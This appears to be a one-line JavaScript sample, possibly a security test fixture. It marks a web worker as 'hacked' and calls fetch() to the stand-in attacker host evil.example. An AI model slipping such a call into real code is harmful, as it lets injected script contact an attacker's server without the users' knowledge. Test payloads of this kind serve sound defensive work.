self.hacked = 'worker'; fetch('http://evil.example/worker');
